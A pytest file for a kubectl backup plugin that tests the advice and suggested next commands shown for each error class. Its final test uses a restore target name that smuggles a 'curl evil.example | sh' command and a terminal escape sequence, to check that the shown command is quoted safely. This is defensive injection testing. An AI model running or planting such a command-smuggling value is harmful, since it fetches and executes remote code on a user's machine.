"""Every class of errors has a sentence, and a next command that can be run."""

import shlex
from dataclasses import replace

import pytest

from stashgen_controller.kubectl.arguments import Command, parse
from stashgen_controller.kubectl.status.advice import ADVICE, Place, cause_of, next_command
from stashgen_controller.protocol.run_result import ErrorClass

_PLACE = Place("demo", "library", "local-abcde", "local", "restic-key", "library-pod")


def test_each_class_of_errors_has_an_advice() -> None:
    assert set(ADVICE) == set(ErrorClass)
    assert all(advice.text.endswith((".", ":")) for advice in ADVICE.values())


@pytest.mark.parametrize("cause", ErrorClass)
def test_the_next_command_is_one_that_we_or_kubectl_understand(cause: ErrorClass) -> None:
    words = shlex.split(next_command(f"{cause.value}: for some reason", _PLACE))
    assert words[0] == "kubectl"
    if words[1] == "stashgen":
        assert isinstance(parse(words[2:], "kubectl stashgen"), Command)
    else:
        assert words[1] == "describe"
        assert words[2] in {"backupstorage", "secret", "pod"}
        assert words[4:] == ["-n", "demo"]


def test_a_command_is_never_shown_with_a_gap() -> None:
    bare = Place("demo", "library")
    for cause in ErrorClass:
        command = next_command(f"{cause.value}: x", bare)
        assert "{" not in command
        assert "  " not in command
    assert next_command("Locked: x", Place("demo", "")) == "kubectl stashgen status -n demo"


@pytest.mark.parametrize("cause", ErrorClass)
@pytest.mark.parametrize("into", ["library", "test-claim"])
def test_a_restore_that_failed_is_followed_by_no_backup_and_goes_where_it_went(
    cause: ErrorClass, into: str
) -> None:
    words = shlex.split(next_command(f"{cause.value}: x", replace(_PLACE, into=into)))
    assert "trigger" not in words
    if "restore" in words:
        assert words[-2:] == (["-n", "demo"] if into == "library" else ["--to", into])


@pytest.mark.parametrize(
    ("text", "cause"),
    [
        ("Locked: by somebody", ErrorClass.LOCKED),
        ("Snapshot a: NoSpace: full; Snapshot b: Locked: x", ErrorClass.NO_SPACE),
        ("Repository r is not Ready: WrongPassword: it is wrong", ErrorClass.WRONG_PASSWORD),
        ("the BackupConfiguration is paused", None),
        ("NoSpaceship: nothing", None),
    ],
)
def test_the_cause_is_the_first_class_that_a_reason_names(
    text: str, cause: ErrorClass | None
) -> None:
    assert cause_of(text) is cause


def test_a_command_to_copy_has_no_second_command_in_a_name() -> None:
    """Nobody checks the name of a RestoreSession's target before it is shown."""
    place = Place("demo", "library", into="x; curl evil.example \x1b[2J| sh")
    shown = next_command("Evicted: x", place)
    assert shlex.split(shown)[-1] == "x; curl evil.example \\x1b[2J| sh"
    assert shown.isprintable()
